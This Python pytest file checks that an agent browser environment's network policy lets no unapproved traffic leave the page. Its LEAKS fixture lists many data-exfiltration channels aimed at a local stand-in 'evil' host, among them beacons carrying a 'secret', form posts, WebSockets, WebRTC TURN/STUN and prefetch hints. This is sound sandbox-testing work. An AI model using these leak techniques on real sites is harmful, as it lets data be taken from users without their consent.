"""Nothing but what a policy allows leaves the browser."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from agentenv.actions import Navigate, Tap
from agentenv.devices.base import BrowserSetup
from agentenv.devices.browser import BrowserDevice
from agentenv.devices.browser.network import NetworkPolicy
from agentenv.errors import ActionError, ConfigError, DeviceError
from tests.devices.browser_pages import find, write_page
from tests.devices.local_sites import DatagramSite, Site

LEAKS = """<!DOCTYPE html><title>Leaks</title>
<link rel=preconnect href="{evil}"><link rel=prefetch href="{evil}/prefetch">
<link rel=preload as=image href="{evil}/preload"><link rel=stylesheet href="{evil}/style">
<link rel=dns-prefetch href="//secret.evil.test"><link rel=icon href="{evil}/icon">
<script type=speculationrules>
{{"prefetch": [{{"source": "list", "urls": ["{evil}/speculation"]}}]}}
</script>
<a href="{evil}/link" ping="{evil}/ping">Away</a>
<a id=download href="{evil}/download" download>Get</a>
<img src="{evil}/image"><img src="{good}/redirect"><iframe src="{evil}/frame"></iframe>
<iframe srcdoc="<img src='{evil}/in-frame'>"></iframe><object data="{evil}/object"></object>
<video src="{evil}/video"></video><div style="background: url({evil}/css)">x</div>
<form id=form method=post action="{evil}/form" target=frame><input name=secret value=1></form>
<iframe name=frame></iframe><script>
var log = [];
const attempt = (does) => {{ try {{ does(); }} catch (error) {{ log.push(String(error)); }} }};
attempt(() => navigator.sendBeacon('{evil}/beacon', 'secret'));
attempt(() => fetch('{evil}/fetch', {{ mode: 'no-cors', keepalive: true }}).catch(() => 0));
attempt(() => {{ new WebSocket('ws://{evil_host}/socket'); }});
attempt(() => {{ new WebSocket('ws://{good_host}/socket-of-a-site-allowed-by-http'); }});
attempt(() => {{ new EventSource('{evil}/events'); }});
attempt(() => {{ new Worker('/worker.js'); }});
attempt(() => {{ new SharedWorker('/worker.js'); }});
attempt(() => {{ navigator.serviceWorker.register('/service.js'); }});
attempt(() => {{ new WebTransport('https://{evil_host}/transport').ready.catch(() => 0); }});
attempt(() => {{
  const peer = new RTCPeerConnection({{ iceServers: [
    {{ urls: 'stun:{udp_host}' }},
    {{ urls: 'turn:{evil_host}?transport=tcp', username: 'a', credential: 'b' }},
  ] }});
  peer.createDataChannel('x');
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
}});
attempt(() => document.getElementById('form').submit());
attempt(() => document.getElementById('download').click());
</script>"""
WORKER = """fetch('{evil}/worker', {{ mode: 'no-cors' }}).catch(() => 0);
try {{ new WebSocket('ws://{evil_host}/worker-socket'); }} catch (error) {{}}
fetch('/from-worker');"""


@pytest.fixture
def good() -> Iterator[Site]:
    site = Site()
    yield site
    site.close()


@pytest.fixture
def evil() -> Iterator[Site]:
    site = Site("127.0.0.2")
    yield site
    site.close()


def allow(*sites: Site) -> NetworkPolicy:
    return NetworkPolicy(allow=tuple(f"{site.url}/*" for site in sites))


def names(addresses: list[str], site: Site) -> set[str]:
    return {one.removeprefix(site.url + "/") for one in addresses if one.startswith(site.url)}


def test_a_page_cannot_get_anything_out(browser: BrowserDevice, good: Site, evil: Site) -> None:
    datagrams = DatagramSite("127.0.0.2")
    words = {
        "good": good.url,
        "evil": evil.url,
        "good_host": good.host,
        "evil_host": evil.host,
        "udp_host": datagrams.host,
    }
    good.pages["/"] = LEAKS.format(**words)
    good.pages["/worker.js"] = good.pages["/service.js"] = WORKER.format(**words)
    good.pages["/redirect"] = f"-> {evil.url}/redirected"
    setup = BrowserSetup(good.url + "/", network=allow(good))
    browser.reset(setup)
    browser.act(Tap(element=find(browser, "Away", "link").index))
    browser.act(Tap(element=find(browser, "Get", "link").index))
    assert browser.observe().location == good.url + "/"
    assert evil.reached == []
    assert datagrams.take() == 0
    datagrams.close()
    assert "GET /from-worker" in good.paths()
    assert not [path for path in good.paths() if "socket" in path]
    assert names(browser.blocked, evil) >= {
        *("image", "frame", "in-frame", "fetch", "beacon", "worker", "redirected", "form"),
        *("link", "download", "style", "css", "events"),
    }
    assert f"ws://{evil.host}/socket" in browser.blocked
    browser.reset(setup)
    assert f"{evil.url}/link" not in browser.blocked


def test_an_agent_cannot_navigate_to_what_is_forbidden(
    browser: BrowserDevice, good: Site, evil: Site, tmp_path: Path
) -> None:
    good.pages["/away"] = f"-> {evil.url}/"
    browser.reset(BrowserSetup(good.url + "/start", network=allow(good)))
    secret = (tmp_path / "secret.html").as_uri()
    for address in (evil.url + "/x", evil.url.upper().replace("HTTP", "http"), secret):
        with pytest.raises(ActionError, match="does not allow"):
            browser.act(Navigate(url=address))
    with pytest.raises(ActionError, match="does not allow"):
        browser.act(Navigate(url=good.url + "/away"))
    assert browser.observe().location == good.url + "/start"
    assert evil.reached == []
    browser.act(Navigate(url=good.url + "/other"))
    assert browser.observe().location == good.url + "/other"


def test_a_policy_changes_with_the_setup(
    browser: BrowserDevice, good: Site, evil: Site, tmp_path: Path
) -> None:
    body = f"<p>Page</p><img src='{good.url}/1'><img src='{evil.url}/2'><img src=beside.png>"
    url = write_page(tmp_path, body)
    browser.reset(BrowserSetup(url, network=NetworkPolicy()))
    assert (good.reached, evil.reached) == ([], [])
    assert set(browser.blocked) == {good.url + "/1", evil.url + "/2"}
    browser.reset(BrowserSetup(url, network=allow(evil)))
    assert (good.paths(), evil.paths()) == ([], ["GET /2"])
    browser.reset(BrowserSetup(url))
    assert (good.paths(), browser.blocked) == (["GET /1"], [])


def test_a_policy_that_forbids_its_own_page_says_so(
    lockstep: BrowserDevice, good: Site, evil: Site
) -> None:
    with pytest.raises(ConfigError, match=r"NetworkPolicy\.allow"):
        lockstep.reset(BrowserSetup(good.url + "/", network=allow(evil)))
    good.pages["/moved"] = f"-> {evil.url}/"
    with pytest.raises(DeviceError, match=f"blocked {evil.url}/") as caught:
        lockstep.reset(BrowserSetup(good.url + "/moved", network=allow(good)))
    assert caught.value.cause == "page_not_loaded"
    assert (good.paths(), evil.reached) == (["GET /moved"], [])
